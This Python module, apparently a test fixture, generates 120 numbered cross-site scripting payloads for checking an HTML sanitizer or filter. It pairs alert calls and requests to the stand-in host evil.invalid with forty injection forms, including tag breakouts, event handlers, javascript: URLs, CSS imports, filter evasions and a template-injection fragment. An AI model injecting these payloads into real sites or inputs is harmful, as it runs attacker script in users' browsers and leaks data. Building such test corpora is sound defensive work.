"""Scripts as people smuggle them into pages: in markup, in attributes, in addresses, in styles, in ways around a filter. 120 of them.

Each asks for a dialog with its own number, or for a file of another host, so that a test can tell which one had its way.
"""

from __future__ import annotations

from itertools import islice, product

ACTS = ["alert({n})", "fetch('http://evil.invalid/{n}')", "new Image().src='http://evil.invalid/{n}'"]
FORMS = [
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "</title><script>{act}</script>",
    "</style><script>{act}</script>",
    "--><script>{act}</script>",
    "]]><script>{act}</script>",
    '"><script>{act}</script>',
    "'><script>{act}</script>",
    '"><img src=x onerror="{act}">',
    "' onmouseover='{act}' autofocus onfocus='{act}' tabindex='0",
    '" onfocus="{act}" autofocus tabindex="0',
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<body onload={act}>",
    "<iframe srcdoc='<script>parent.{act}</script>'></iframe>",
    "<iframe src=javascript:{act}></iframe>",
    "<object data=javascript:{act}></object>",
    "<embed src=javascript:{act}>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<math><a xlink:href=javascript:{act}>x</a></math>",
    "<a href=javascript:{act} autofocus>x</a>",
    "<form action=javascript:{act}><input type=submit autofocus>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<base href=//evil.invalid/{n}/>",
    "<link rel=stylesheet href=//evil.invalid/{n}.css>",
    "<style>@import '//evil.invalid/{n}.css';</style>",
    "<div style=\"background:url('//evil.invalid/{n}.png')\">",
    "javascript:{act}",
    "JaVaScRiPt:{act}",
    "java\tscript:{act}",
    " javascript:{act}",
    "data:text/html,<script>{act}</script>",
    "vbscript:{act}",
    "http://evil.invalid/\"onclick=\"{act}",
    "{{{{ ''.__class__ }}}}{{% for x in (1).__class__.__base__.__subclasses__() %}}<script>{act}</script>{{% endfor %}}",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "\u202e<script>{act}</script>\u0000\u2028<img src=//evil.invalid/{n}>",
]  # fmt: skip
PAYLOADS = [form.format(act=act.format(n=number), n=number) for number, (act, form) in enumerate(islice(product(ACTS, FORMS), 120), 1)]
